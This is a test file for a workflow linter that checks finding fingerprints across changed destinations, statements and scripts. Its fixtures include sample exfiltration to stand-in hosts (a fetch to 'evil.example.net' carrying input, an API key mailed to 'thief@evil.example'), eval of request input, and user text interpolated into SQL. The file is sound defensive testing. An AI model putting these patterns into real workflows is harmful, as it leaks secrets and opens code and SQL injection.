/** A waiver holds for what was looked at: it ends with another destination, statement or script, and outlives moves and renames. */
import { expect, it } from 'vitest';
import { lintFlow } from '../../app/lint/run.ts';
import type { Flow } from '../../app/workflow/model/flow.ts';
import { flow } from './kit/flow.ts';
import { ask, call, mail, openHook, post, script, sql } from './kit/steps.ts';

const prints = (one: Flow, rule: string): string =>
  lintFlow(one)
    .findings.filter(({ ruleId }) => ruleId === rule)
    .map(({ fingerprint }) => fingerprint)
    .join(' ');
const key = [
  { name: 'apiKey', label: 'secret' },
  { name: 'text', label: 'none' },
];
const asks = (more = {}): Flow => flow([openHook(), ask('{{ input.body.email }}', more)], ['hook > ask']);
const mails = (to: string): Flow => flow([openHook(key), mail(to, '{{ input.body.apiKey }}')], ['hook > mail']);
const calls = (url: string): Flow =>
  flow([openHook(key), call(url, { query: [{ name: 'k', value: '{{ input.body.apiKey }}' }] })], ['hook > call']);
const acts = (url: string, more = {}): Flow =>
  flow([openHook(), ask('{{ input.body.text }}'), post(url, '{{ input.answer }}', more)], ['hook > ask', 'ask > call']);
const queries = (statement: string): Flow => flow([openHook(), sql(statement)], ['hook > sql']);
const runs = (code: string): Flow => flow([openHook(), script(code)], ['hook > script']);

it.each([
  ['DF001', 'the address of the model', asks(), asks({ baseUrl: 'https://evil.example.net/v1' })],
  ['DF003', 'the receiver', mails('a@other.example'), mails('thief@evil.example')],
  ['DF003', 'the host', calls('https://own.example.com/a'), calls('https://evil.example.net/a')],
  ['AI001', 'the host', acts('https://own.example.com/a'), acts('https://bank.example.net/a')],
  ['AI001', 'what is called there', acts('https://own.example.com/notes'), acts('https://own.example.com/refunds')],
  ['AI001', 'the deed', acts('https://own.example.com/a'), acts('https://own.example.com/a', { effect: 'pay' })],
  [
    'CN014',
    'the statement',
    queries("select * from a where b = '{{ input.body.text }}'"),
    queries("delete from a where b = '{{ input.body.text }}'"),
  ],
  ['SC001', 'the script', runs('return eval("1 + 1");'), runs('return eval(input.body.text);')],
  [
    'SC002',
    'the script',
    runs('return await fetch("https://a.example.com");'),
    runs('return await fetch("https://evil.example.net/?" + input.body.text);'),
  ],
] as const)('%s: another finding when %s changes', (rule, _what, before, after) => {
  expect(prints(before, rule)).not.toBe('');
  expect(prints(after, rule)).not.toBe('');
  expect(prints(after, rule)).not.toBe(prints(before, rule));
});

it('the same finding after moves, renames, blanks and another version of the model', () => {
  const before = flow(
    [
      openHook(),
      ask('{{ input.body.email }}'),
      script('return { x: eval(node["ask"].answer) };'),
      sql("select * from a where b = '{{ input.body.text }}'"),
    ],
    ['hook > ask', 'ask > script', 'hook > sql'],
  );
  const after: Flow = {
    ...before,
    name: 'Another name',
    layout: { ...before.layout, nodes: { ask: { x: 400, y: 90 } } },
    nodes: before.nodes.map((node) => ({
      ...node,
      name: `${node.name} now`,
      parameters: {
        ...node.parameters,
        ...(node.id === 'ask'
          ? { model: 'gpt-4o-2024-11-20' }
          : node.id === 'script'
            ? { code: 'return { x: eval(node["ask now"].answer) };' }
            : node.id === 'sql'
              ? { statement: "select *  from a\nwhere b = '{{ input.body.text }}'" }
              : {}),
      },
    })),
  };
  for (const rule of ['DF001', 'SC001', 'CN014'])
    expect([rule, prints(before, rule), prints(after, rule)]).toEqual([rule, expect.stringMatching(/^[0-9a-f]{32}/), prints(before, rule)]);
});

it('a model at another address is called by that address', () => {
  expect(lintFlow(asks({ baseUrl: 'https://evil.example.net/v1' })).findings.find(({ ruleId }) => ruleId === 'DF001')?.title).toContain(
    'evil.example.net',
  );
});

it('what is looked after may change under a waiver', () => {
  expect(prints(acts('https://own.example.com/a', { timeoutMs: 100 }), 'RL003')).toBe(prints(acts('https://other.example.com/b'), 'RL003'));
});
